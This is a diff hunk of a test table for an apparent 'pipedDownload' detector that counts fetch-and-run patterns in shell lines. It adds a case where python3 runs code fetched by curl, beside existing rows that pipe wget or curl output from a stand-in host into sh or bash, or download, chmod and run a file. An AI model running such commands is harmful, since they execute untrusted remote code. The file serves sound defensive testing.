@@ -41,6 +41,7 @@ table(pipedDownload, [
     ["a shell by its path", "sh -c 'wget -O - https://x.example/i | /bin/sh'", 1],
     ["a shell by env", "sh -c 'curl https://x.example/i | /usr/bin/env bash'", 1],
     ["made executable and run", "sh -c 'wget https://x.example/i -O /tmp/i; chmod +x /tmp/i; /tmp/i'", 1],
+    ["a language", "sh -c 'python3 <(curl -s https://x.example/i)'", 1],
     ["made executable only", "sh -c 'wget https://x.example/i -O /tmp/i; chmod +x /tmp/i; app'", 0],
     ["a remark", 'sh -c "# curl https://x.example/i | sh\\nexec app"', 0],
   ].map(([name, line, count]) => ({
